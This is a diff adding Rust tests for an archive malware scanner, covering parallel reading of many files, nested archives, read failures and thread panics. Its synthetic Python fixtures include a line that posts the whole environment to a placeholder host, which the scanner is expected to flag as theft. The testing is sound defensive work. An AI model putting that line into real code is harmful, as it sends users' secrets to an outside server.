@@ -1,0 +1,110 @@
+//! Many files, read by whoever has time: all of them, with the same report each time, and nobody waits for ever.
+
+use std::io::{self, Cursor, Read, Seek, SeekFrom};
+use std::sync::LazyLock;
+
+use super::*;
+use crate::archive::making::{tgz_of, wheel};
+use crate::program::Language;
+use crate::{Report, scan};
+
+static RULES: LazyLock<RuleSet> = LazyLock::new(RuleSet::default);
+
+/// Files of `bytes` bytes each, which steal where `steals` says so.
+fn files(count: usize, bytes: usize, steals: impl Fn(usize) -> bool) -> Vec<(String, String)> {
+    let theft = "import os, requests\nrequests.post('https://c.example.invalid', json=dict(os.environ))\n";
+    let calm = "import os, requests\nNAME = os.environ.get('LANG')\n";
+    let file = |at: usize| {
+        let code = if steals(at) { theft } else { calm };
+        let rest = "# nothing but words\n".repeat((bytes - code.len()) / 20);
+        (format!("a/m{at:04}.py"), format!("{code}{rest}"))
+    };
+    (0..count).map(file).collect()
+}
+
+fn scanned(files: &[(String, String)]) -> Report {
+    let files: Vec<_> = files.iter().map(|(path, text)| (path.as_str(), text.as_str())).collect();
+    let wheel = wheel(&files, |_| {});
+    scan(&mut Cursor::new(wheel), "a-1.0-py3-none-any.whl", &RULES).unwrap()
+}
+
+#[test]
+fn every_file_of_a_large_archive_is_read_whoever_reads_it() {
+    for (count, bytes) in [(300, 1_500), (12, 60_000), (2, 600_000)] {
+        let files = files(count, bytes, |at| at % 2 == 0);
+        let report = scanned(&files);
+        let thefts = count.div_ceil(2);
+        let of_theft: Vec<_> = report.findings.iter().filter(|finding| finding.rule == "code:steal").collect();
+        assert_eq!(of_theft.len(), thefts.min(20), "{count} files of {bytes} bytes");
+        assert!(of_theft.iter().all(|finding| finding.place.line == Some(2)), "{of_theft:#?}");
+        let alone: Vec<_> = files.iter().map(|file| scanned(std::slice::from_ref(file))).collect();
+        assert_eq!(report.counts.trees, alone.iter().map(|one| one.counts.trees).sum::<usize>());
+        assert_eq!(report, scanned(&files), "the same each time");
+    }
+}
+
+#[test]
+fn files_of_an_archive_in_the_archive_are_told_with_the_way_to_them() {
+    let inner = files(400, 1_500, |at| at == 399);
+    let texts: Vec<_> = inner.iter().map(|(path, text)| (path.as_str(), text.as_str())).collect();
+    let tgz = tgz_of(&texts);
+    let outer = crate::archive::making::zip(&[crate::archive::making::Zipped::new("inner.tgz", &tgz)]);
+    let report = scan(&mut Cursor::new(outer), "a.zip", &RULES).unwrap();
+    let theft = report.findings.iter().find(|finding| finding.rule == "code:steal").expect("a finding");
+    assert_eq!(theft.place.path, "inner.tgz!/a/m0399.py");
+}
+
+/// Fails after so many bytes.
+struct Failing(Cursor<Vec<u8>>, u64);
+
+impl Read for Failing {
+    fn read(&mut self, buffer: &mut [u8]) -> io::Result<usize> {
+        self.1 = self.1.checked_sub(buffer.len() as u64).ok_or_else(|| io::Error::other("the disk is gone"))?;
+        self.0.read(buffer)
+    }
+}
+
+impl Seek for Failing {
+    fn seek(&mut self, to: SeekFrom) -> io::Result<u64> {
+        self.0.seek(to)
+    }
+}
+
+#[test]
+fn a_scan_that_ends_early_keeps_nobody_waiting() {
+    let files = files(900, 1_500, |_| false);
+    let texts: Vec<_> = files.iter().map(|(path, text)| (path.as_str(), text.as_str())).collect();
+    let archive = tgz_of(&texts);
+    // Its hash is read, then it fails in the middle of being unpacked.
+    let room = archive.len() as u64 * 3 / 2 + 256 * 1024;
+    let failed = scan(&mut Failing(Cursor::new(archive), room), "a-1.0.tar.gz", &RULES);
+    assert!(failed.is_ok() || failed.is_err_and(|error| error.to_string().contains("could not be read")));
+}
+
+#[test]
+fn a_panic_in_another_thread_is_the_scans() {
+    let caught = catch_unwind(AssertUnwindSafe(|| {
+        thread::scope(|scope| {
+            let mut crew = Crew::new(scope, &RULES);
+            let helpers = crew.helpers.insert(Helpers::begin(scope, &RULES));
+            let (tell, done) = mpsc::channel::<Done>();
+            (helpers.done, helpers.open) = (done, 1);
+            let panic = catch_unwind(|| -> Vec<Seen> { std::panic::panic_any("of a reader") });
+            tell.send(panic).expect("somebody waits");
+            crew.settle()
+        })
+    }));
+    assert!(caught.is_err_and(|panic| panic.downcast_ref() == Some(&"of a reader")));
+}
+
+#[test]
+fn what_is_small_wakes_nobody() {
+    thread::scope(|scope| {
+        let mut crew = Crew::new(scope, &RULES);
+        for (path, text) in files(4, 20_000, |_| false) {
+            let seen = crew.read(Task::Text(Text { path, language: Language::Python, bytes: text.into_bytes() }));
+            assert_eq!(seen.len(), 1);
+        }
+        assert!(crew.helpers.is_none() && crew.settle().is_empty());
+    });
+}
